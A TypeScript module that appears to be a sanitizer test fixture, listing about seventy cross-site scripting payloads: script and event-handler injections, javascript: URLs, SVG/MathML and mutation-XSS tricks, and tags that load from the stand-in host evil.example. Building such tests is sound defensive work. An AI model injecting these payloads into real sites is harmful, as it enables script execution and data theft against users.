/** What each hostile text tries to run and to fetch: `ran` and a dialog are watched for, and so is the host. */
export const evilHost = "evil.example";
const js = "ran(document.domain);alert(1)";
const url = `https://${evilHost}/x`;
const html = (text: string): string =>
  [...text].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).join("");

/** Hostile HTML, each in the hope that somebody shows it as it is. */
export const payloads: readonly string[] = [
  // Scripts, plainly and in other cases, broken and nested.
  `<script>${js}</script>`,
  `<ScRiPt/x>${js}</sCrIpT >`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<script src=${url}></script>`,
  `"><script>${js}</script>`,
  `</title></textarea></style></noscript></template><script>${js}</script>`,
  `<!--><script>${js}</script>-->`,
  `<script>//<![CDATA[\n${js}//]]></script>`,
  // Things that happen by themselves.
  `<img src=x onerror="${js}">`,
  `<img src=x onerror=${html(js)}>`,
  `<img/src="x"/onerror="${js}"//`,
  `<body onload="${js}">`,
  `<input autofocus onfocus="${js}">`,
  `<select autofocus onfocus="${js}"></select>`,
  `<details open ontoggle="${js}">x</details>`,
  `<video onloadstart="${js}"><source src=x onerror="${js}"></video>`,
  `<audio src=x onerror="${js}">`,
  `<iframe onload="${js}"></iframe>`,
  `<marquee onstart="${js}">x</marquee>`,
  `<div tabindex=1 autofocus onfocus="${js}">x</div>`,
  `<style onload="${js}"></style>`,
  `<p style="animation:a 1s" onanimationstart="${js}">x</p><style>@keyframes a{from{top:0}}</style>`,
  `<object data="x" onerror="${js}"></object>`,
  // Addresses that are code.
  `<a href="javascript:${js}">läs mer</a>`,
  `<a href="java\tscript:${js}">läs mer</a>`,
  `<a href="&#106;avascript:${js}">läs mer</a>`,
  `<a href="data:text/html,<script>${js}</script>">läs mer</a>`,
  `<iframe src="javascript:top.${js}"></iframe>`,
  `<iframe srcdoc="<script>top.${js}</script>"></iframe>`,
  `<iframe src="${url}"></iframe>`,
  `<embed src="${url}">`,
  `<object data="data:text/html,<script>top.${js}</script>"></object>`,
  `<form action="javascript:${js}"><button autofocus>Skicka</button></form>`,
  `<form id=f action="${url}"></form><button form=f formaction="javascript:${js}">Skicka</button>`,
  // Pictures that are programs, and formulas.
  `<svg onload="${js}">`,
  `<svg><script>${js}</script></svg>`,
  `<svg><script href="${url}"/></svg>`,
  `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="javascript:${js}"/><a href=x><text y=20>läs</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>`,
  `<svg><filter id=f><feImage href="${url}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  `<svg><image href="${url}" width=9 height=9 /></svg>`,
  `<math><mtext><img src=x onerror="${js}"></mtext></math>`,
  `<math href="javascript:${js}">läs</math>`,
  `<math><annotation-xml encoding="text/html"><script>${js}</script></annotation-xml></math>`,
  // What becomes something else when it is read a second time.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${js}'&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror='${js}'>">`,
  `<noscript><p title="</noscript><img src=x onerror='${js}'>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='${js}'>`,
  `<template><img src=x onerror="${js}"></template><xmp><p title="</xmp><img src=x onerror='${js}'>">`,
  `<select><template><style><!--</style><img src=x onerror="${js}"></template></select>`,
  `<table><td background="${url}"><style>x</style><a title="</style><img src=x onerror='${js}'>">`,
  `<a id=createElement name=body href="x"><form name=ownerDocument><input name=attributes></form>`,
  // What fetches without running anything.
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<base href="https://${evilHost}/"><a href="sida">läs mer</a><img src="bild.png">`,
  `<link rel=stylesheet href="${url}">`,
  `<link rel=prefetch href="${url}"><link rel=preconnect href="https://${evilHost}">`,
  `<style>@import "${url}";</style>`,
  `<style>*{background:url(${url})}</style>`,
  `<style>*{background:u\\72l(${url});content:image-set("${url}" 1x)}</style>`,
  `<p style="background-image:url('${url}');list-style:url(${url})">x</p>`,
  `<img srcset="${url} 1x, ${url} 2x"><picture><source srcset="${url}"><img src=x></picture>`,
  `<img src="//${evilHost}/x"><input type=image src="${url}"><video poster="${url}"></video>`,
  `<a href="${url}" ping="${url}">läs mer</a><body background="${url}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}'/><script>${js}</script></svg>">`,
];
